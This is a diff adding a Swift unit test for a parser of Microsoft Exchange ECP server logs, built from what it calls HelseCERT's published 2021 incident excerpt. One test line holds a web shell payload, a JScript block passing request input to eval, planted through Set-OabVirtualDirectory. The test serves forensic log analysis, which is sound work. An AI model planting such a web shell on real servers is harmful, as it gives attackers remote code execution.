@@ -101,6 +101,28 @@ import Testing
         #expect(f.messages == ["line 1: no #Fields header; read as ECP log excerpt (TimeStamp,EventData)"])
     }
 
+    /// HelseCERT's published excerpt, verbatim: the cmdlets quote with `'` and hold commas (`Request[""k""],""unsafe""`),
+    /// so EventData is the rest of each line as written, with no field-count problem.
+    @Test func helseCERTsECPExcerptKeepsEachCmdletWhole() throws {
+        let lines = [
+            "2021-03-03T06:49:51.389Z,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;;S:EX=",
+            #"2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''"#,
+            "2021-03-03T06:50:00.717Z,'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''servernavn\\OAB (Default Web Site)''';;S:EX=",
+            #"2021-03-03T06:50:08.396Z,"S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''",x"#,
+        ]
+        let (store, f) = try Self.loadText(lines.joined(separator: "\r\n") + "\r\n", "excerpt/ECPServer20210303-1.txt")
+        #expect(f.kind == .ecpServer)
+        #expect(store.count == 4)
+        for (i, line) in lines.enumerated() {
+            let rest = String(line.drop { $0 != "," }.dropFirst())
+            #expect(store.field("EventData", of: i) == rest)
+            #expect(store.fields(of: i).count == 2)
+        }
+        #expect(store.field("TimeStamp", of: 1) == "2021-03-03T06:49:53.772Z")
+        #expect(store.time[1] == Timestamp.parse("2021-03-03T06:49:53.772Z"))
+        #expect(f.messages == ["line 1: no #Fields header; read as ECP log excerpt (TimeStamp,EventData)"])
+    }
+
     @Test func cutOffFieldsLineIsAProblem() throws {
         let text = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: DateTime,RequestId,MajorVersion,Min"
         let (_, f) = try Self.loadText(text, "EX01/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG")
